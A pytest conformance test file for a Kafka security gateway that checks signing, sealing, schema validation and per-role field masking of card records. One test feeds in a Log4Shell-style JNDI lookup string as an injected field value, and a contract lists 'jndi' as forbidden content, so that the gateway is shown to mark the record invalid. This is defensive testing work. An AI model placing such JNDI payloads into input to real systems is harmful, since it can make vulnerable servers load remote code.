"""Signed, sealed, validated, framed and masked at once: what each reader of a real broker gets."""

import io
import json
from collections.abc import Iterator
from typing import Any

import fastavro
import pytest
from confluent_kafka import KafkaException, Message, Producer
from cryptography.hazmat.primitives.asymmetric import ed25519

from streamward.dev.kafka import KafkaServer
from tests.conformance.test_signing import write_key
from tests.support.confluent import SECONDS_MAX, create_topics, error_code, produce
from tests.support.endpoints import Endpoint
from tests.support.gateway import GatewayProcess
from tests.support.mask_hashes import hash_of
from tests.support.protected import (
    BAD_MESSAGE,
    CORRUPT_MESSAGE,
    ENVELOPE,
    KEYS,
    SECRET,
    SIGNATURE,
    messages,
    protecting_bundle,
    reasons,
    ring,
)

PREFIX = "conformance.combined."
FRAMED, SIGNED, SEALED, FIELDS, MARKED, KEYED = (
    PREFIX + name for name in ("framed", "signed", "sealed", "fields", "marked", "keyed")
)
CARD = "4111222233334444"
HASH_SECRET = b"what hashes are made with"
FRAME = b"\0\0\0\0\x07"
MARK = "streamward.violation"
_STREAMS = {
    FRAMED: "",
    SIGNED: "sign: {key: key}",
    SEALED: "seal: {ring: test-ring, key: deterministic, unreadable: mask}\nsign: {key: key}",
    FIELDS: "seal: {ring: test-ring, value: false, fields: [card, mail], unreadable: mask}\n"
    "sign: {key: key, each: record}",
    MARKED: "seal: {ring: test-ring, value: false, fields: [card], on_violation: mark, "
    "unreadable: mask}",
    KEYED: "sign: {key: key, on_violation: mark}",
}
_BUNDLE = f"""\
{KEYS}---
kind: AccessClass
name: analysing
readers: ["role:reader"]
owner: tests
{ring("test-ring")}---
kind: Grant
id: reader-masked
to: ["role:reader"]
allow: [read, describe]
on: ["stream:{PREFIX}*", "group:{PREFIX}*"]
---
{{kind: SigningKey, name: key, key: "file:key.pem"}}
"""
_CONTRACT = """\
---
kind: Stream
name: {topic}
classes: [test-data]
{settings}
---
apiVersion: v3.1.0
kind: DataContract
id: {topic}
version: 1.0.0
status: active
team: {{name: tests}}
schema:
  - name: {topic}
    customProperties:
      - property: streamward.schema
        value: {schema}
      - {{property: streamward.validate, value: {{write: off, read: {read}}}}}
      - {{property: streamward.content, value: [jndi]}}
      - {{property: streamward.unmasked, value: [testing]}}
      - property: streamward.masked
        value:
          {{access_classes: [analysing], key: hash, key_hash_group: people, headers: [trace],
            secret: "file:mask.key", on_invalid: {invalid}}}
    properties:
      - {{name: card, customProperties: [{{property: streamward.mask, value: keep-last}}]}}
      - name: mail
        customProperties:
          - {{property: streamward.mask, value: {{others: hash, hash_group: people}}}}
      - name: note
        customProperties: [{{property: streamward.mask, value: hash}}]
"""
AVRO: dict[str, Any] = {
    "type": "record",
    "name": "Card",
    "fields": [{"name": name, "type": "string"} for name in ("card", "mail", "note")],
}
JSON = {
    "type": "object",
    "properties": {
        "card": {"type": "string"},
        "mail": {"type": "string"},
        "note": {"type": "string"},
    },
    "required": ["card"],
}


@pytest.fixture(scope="module")
def combined(
    kafka: KafkaServer, direct: Endpoint, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[GatewayProcess]:
    """A gateway with a stream of each combination."""
    contracts = [
        _CONTRACT.format(
            topic=topic,
            settings=settings,
            schema="{format: json, file: card.schema.json}"
            if topic == MARKED
            else "{format: avro, file: card.avsc, schema_ids: [7]}",
            read="refuse" if topic == FIELDS else "mark",
            invalid="mark" if topic == MARKED else "refuse",
        )
        for topic, settings in _STREAMS.items()
    ]
    declared = _BUNDLE + "".join(contracts)
    bundle = protecting_bundle(kafka, tmp_path_factory.mktemp("combined"), declared)
    (bundle.folder / "card.avsc").write_text(json.dumps(AVRO))
    (bundle.folder / "card.schema.json").write_text(json.dumps(JSON))
    (bundle.folder / "mask.key").write_bytes(HASH_SECRET + b"\n")
    (bundle.folder / "mask.key").chmod(0o600)
    write_key(bundle.folder / "key.pem", ed25519.Ed25519PrivateKey.generate())
    create_topics(direct, *_STREAMS, partitions=1)
    with GatewayProcess(bundle) as process:
        yield process


def card(number: int) -> dict[str, str]:
    mail = f"m{number}@example.org"
    return {"card": CARD, "mail": mail, "note": mail}


def avro(value: dict[str, str], frame: bytes = FRAME) -> bytes:
    stream = io.BytesIO()
    fastavro.schemaless_writer(stream, AVRO, value)
    return frame + stream.getvalue()


def of_avro(value: bytes) -> Any:
    assert value.startswith(FRAME)
    return fastavro.schemaless_reader(io.BytesIO(value[len(FRAME) :]), AVRO, None)


def write(endpoint: Endpoint, topic: str, codec: str, count: int) -> list[bytes]:
    producer = Producer(endpoint.librdkafka(compression_type=codec, linger_ms=200))
    failed: list[object] = []
    written = [avro(card(number)) for number in range(count)]
    for number, value in enumerate(written):
        producer.produce(
            topic,
            value,
            key=f"m{number}@example.org",
            headers=[("trace", b"1"), ("hidden", SECRET)],
            on_delivery=lambda error, _: failed.append(error) if error else None,
        )
    assert producer.flush(SECONDS_MAX) == 0
    assert failed == []
    return written


def hashed(name: str, *domain: str) -> str:
    return hash_of(HASH_SECRET, list(domain), name.encode()).hex()


def headers(message: Message) -> dict[str, object]:
    return dict(message.headers() or [])


@pytest.mark.parametrize("topic", [FRAMED, SIGNED, SEALED, FIELDS, KEYED])
def test_each_reader_gets_what_is_its_own(
    combined: GatewayProcess, direct: Endpoint, topic: str
) -> None:
    tester, reader = (combined.bundle.endpoint(name) for name in ("tester", "reader"))
    written = [value for codec in ("none", "lz4") for value in write(tester, topic, codec, 3)]

    whole, masked, lies = (messages(it, topic, 6) for it in (tester, reader, direct))

    assert [it.value() for it in whole] == written
    mails = [f"m{number}@example.org" for number in range(3)] * 2
    assert [it.key() for it in whole] == [it.encode() for it in mails]
    # Masks behind the id of the schema; hashes of a group are equal in key and field, and of no
    # other field.
    of_group = [hashed(mail, "group", "people") for mail in mails]
    of_note = [hashed(mail, "field", topic, "note") for mail in mails]
    assert [of_avro(it.value() or b"") for it in masked] == [
        {"card": "*" * 12 + CARD[-4:], "mail": mail, "note": note}
        for mail, note in zip(of_group, of_note, strict=True)
    ]
    assert [it.key() for it in masked] == [it.encode() for it in of_group]
    assert {tuple(headers(it)) for it in masked} == {("trace",)}
    assert [it.timestamp() for it in masked] == [it.timestamp() for it in lies]
    # At the broker it is signed and sealed as declared; a signature leaves where it still fits.
    is_signed = "sign:" in _STREAMS[topic]
    assert {SIGNATURE in headers(it) for it in lies} == {is_signed}
    kept = is_signed and topic in (SIGNED, KEYED)
    assert {SIGNATURE in headers(it) for it in whole} == {kept}
    for it in lies:
        value = it.value() or b""
        assert value.startswith(ENVELOPE) == (topic == SEALED)
        assert (CARD.encode() in value) == (topic in (FRAMED, SIGNED, KEYED))


@pytest.mark.parametrize("topic", [SIGNED, SEALED, FIELDS])
def test_what_nobody_signed_reaches_neither(
    combined: GatewayProcess, direct: Endpoint, topic: str
) -> None:
    lies = messages(direct, topic, 1)[0]
    produce(direct, topic, [lies.value() or b""])

    for name in ("tester", "reader"):
        endpoint = combined.bundle.endpoint(name)
        with pytest.raises(KafkaException) as raised:
            messages(endpoint, topic, 7)
        assert error_code(raised.value) in {BAD_MESSAGE, CORRUPT_MESSAGE}
    assert reasons(combined, topic) == {"signing:unsigned"}


def test_another_schemas_id_is_shown_to_nobody_with_masks(
    combined: GatewayProcess, direct: Endpoint
) -> None:
    other = avro(card(0), b"\0\0\0\0\x08")
    produce(direct, FRAMED, [other])
    tester, reader = (combined.bundle.endpoint(name) for name in ("tester", "reader"))

    last = messages(tester, FRAMED, 7)[6]
    with pytest.raises(KafkaException):
        messages(reader, FRAMED, 7)

    assert (last.value(), headers(last)) == (other, {MARK: b"contract_invalid"})
    assert reasons(combined, FRAMED) == {"contract:invalid", "contract:unmaskable"}


def test_a_mark_is_seen_through_masks(combined: GatewayProcess, direct: Endpoint) -> None:
    produce(direct, KEYED, [avro(card(1))])

    tester, reader = (combined.bundle.endpoint(name) for name in ("tester", "reader"))
    whole, masked = (messages(it, KEYED, 7)[6] for it in (tester, reader))

    assert whole.value() == avro(card(1))
    assert of_avro(masked.value() or b"")["card"] == "*" * 12 + CARD[-4:]
    assert headers(whole) == headers(masked) == {MARK: b"unsigned"}


def test_sealed_fields_are_opened_then_validated_then_masked(
    combined: GatewayProcess, direct: Endpoint
) -> None:
    tester, reader = (combined.bundle.endpoint(name) for name in ("tester", "reader"))
    good, injection = card(0), card(1) | {"note": "${jndi:ldap://h/a}"}
    for value in (good, injection):
        # What is written is not held to the contract, so that it lies there.
        produce(tester, MARKED, [json.dumps(value).encode()])
    # Past the gateway: a field that is no envelope, and a value that is of no schema.
    for forged in (json.dumps(good).encode(), CARD.encode()):
        produce(direct, MARKED, [forged])

    whole, masked = (messages(it, MARKED, 4) for it in (tester, reader))

    assert [it.value() for it in whole[:2]] == [json.dumps(it).encode() for it in (good, injection)]
    marks = [[value for name, value in it.headers() or [] if name == MARK] for it in whole]
    assert marks[:2] == [[], [b"contract_invalid"]]
    assert marks[2] == [b"plaintext"]
    assert marks[3][0] in {b"schema", b"unmaskable"}
    seen = [json.loads(it.value() or b"null") for it in masked]
    assert [one and one["card"] for one in seen[:3]] == ["*" * 12 + CARD[-4:]] * 3
    assert seen[3] is None
    for it in masked:
        assert CARD.encode() not in (it.value() or b"")
    of_masked = [[value for name, value in it.headers() or [] if name == MARK] for it in masked]
    assert of_masked[:3] == marks[:3]
    assert of_masked[3][-1] == b"unmaskable"
